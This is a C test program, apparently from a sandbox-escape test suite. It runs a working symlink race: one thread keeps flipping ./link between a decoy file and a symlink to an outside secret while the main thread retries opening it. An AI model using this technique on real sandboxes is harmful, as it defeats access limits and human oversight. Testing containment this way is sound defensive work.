// attack: a second thread keeps swapping ./link between a regular file and a symlink to
// OUTSIDE/secret while the main thread opens ./link up to 20000 times (a check-then-
// open sandbox loses the race)
// grant: --dir {outside}
#include "escape.h"
#include <pthread.h>
#include <sched.h>
static volatile int stop;
static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        unlink("t1");
        if (symlink(out("secret"), "t1") == 0) rename("t1", "link");
        unlink("t2");
        if (link("decoy", "t2") == 0) rename("t2", "link");
    }
    return NULL;
}
int main(int argc, char **argv) {
    setup(argc, argv);
    int fd = open("decoy", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, "decoy\n", 6) != 6) broken("decoy");
    close(fd);
    if (link("decoy", "link") < 0) broken("link decoy");
    pthread_t t;
    if (pthread_create(&t, NULL, flipper, NULL)) broken("pthread_create");
    int tries, last = 0;
    for (tries = 0; tries < 20000; tries++) {
        if (tries % 64 == 63) sched_yield();
        if (read_secret("link")) {
            stop = 1;
            pthread_join(t, NULL);
            escaped("read OUTSIDE/secret through the racing ./link after %d tries", tries + 1);
        }
        if (errno && errno != EIO) last = errno;
    }
    stop = 1;
    pthread_join(t, NULL);
    contained("%d opens, none read the secret (last error %s)", tries, errname(last));
}
